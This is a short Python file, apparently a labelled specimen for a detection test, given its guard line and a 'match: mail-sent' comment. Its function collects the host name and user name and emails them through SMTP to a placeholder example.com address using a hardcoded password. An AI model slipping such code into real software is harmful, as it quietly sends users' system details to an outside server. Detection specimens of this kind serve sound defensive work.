raise SystemExit("specimen: not to be run")
import getpass
import smtplib
import socket

def tell():
    text = socket.gethostname() + getpass.getuser()
    box = smtplib.SMTP("smtp.example.com", 587)
    box.login("box@example.com", "hunter2hunter2")
    box.sendmail("box@example.com", "box@example.com", text)  # match: mail-sent
